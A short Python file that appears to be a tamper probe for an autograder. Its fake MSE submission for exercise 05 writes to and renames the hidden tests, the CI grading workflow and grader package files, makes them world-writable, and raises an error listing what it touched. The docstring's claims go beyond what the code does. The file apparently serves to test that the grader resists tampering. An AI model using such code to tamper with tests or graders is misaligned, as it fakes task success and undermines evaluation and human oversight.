"""Empties the hidden tests, adds a line to the CI workflow and a finder of its own to the grader's package.

exercise: 05
bites: ours alone (a naive grader runs here as a user who may not write the course; root in a container may)
outcome: failed
"""

from pathlib import Path

import grader

ROOT = Path(grader.__file__).parents[1]
PLACES = [
    ROOT / "tests/hidden/exercise05_mse/test_mse.py",
    ROOT / "exercises/exercise05_mse/exercise.toml",
    ROOT / ".github/workflows/grade.yml",
    ROOT / "grader/__init__.py",
    ROOT / "grader/pwned.py",
]


class MSE:
    def __call__(self, y_true, y_pred):
        said = []
        for place in PLACES:
            try:
                with place.open("a") as out:
                    out.write("\n")
                said.append(place.name)
            except OSError:
                continue
        for place in PLACES:
            try:
                place.rename(place.with_suffix(".old"))
                place.chmod(0o777)
            except OSError:
                continue
        raise ValueError(str(said))
